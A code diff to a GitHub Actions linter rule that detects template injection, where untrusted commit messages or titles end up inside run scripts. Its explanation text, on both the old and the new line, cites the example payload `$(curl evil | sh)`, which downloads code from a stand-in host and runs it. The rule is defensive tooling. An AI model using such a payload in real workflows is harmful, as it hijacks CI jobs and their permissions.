@@ -14,15 +14,15 @@ const UNTRUSTED =
 export const templateInjection: Rule = defineRule({
   code: "W006",
   slug: "template-injection",
-  title: "text that strangers write becomes part of a script",
+  title: "untrusted text becomes part of a script",
   severity: "error",
   scope: "hygiene",
   needs: ["tree"],
   fix: "review",
   docs: {
     what: "`${{ ... }}` with a title, a message or a branch name is inside a script.",
-    why: "GitHub puts the text in before the shell reads the script: a title like `$(curl evil | sh)` runs, with everything that the job may do.",
-    fix: "put the value into an environment variable (`env:`) and use that in the script",
+    why: "GitHub inserts the text before the shell reads the script: a title such as `$(curl evil | sh)` runs with the permissions of the job.",
+    fix: "pass the value as an environment variable (`env:`) to the script",
     bad: 'run: echo "${{ github.event.head_commit.message }}"',
     good: 'env:\n  MESSAGE: ${{ github.event.head_commit.message }}\nrun: echo "$MESSAGE"',
     peers: ["zizmor:template-injection"],
@@ -42,7 +42,7 @@ export const templateInjection: Rule = defineRule({
             const range = { start, end: start + match[0].length };
             const fix = environmentFix(file, job, step, range, match[0]);
             findings.push({
-              message: `${untrusted}, which strangers write, becomes part of a script in the job ${job.id}`,
+              message: `${untrusted}, which anyone can set, becomes part of a script in the job ${job.id}`,
               location: file.locate(range),
               subject: `${file.path} ${step.place.start} ${untrusted}`,
               ...(fix === null ? {} : { fix }),
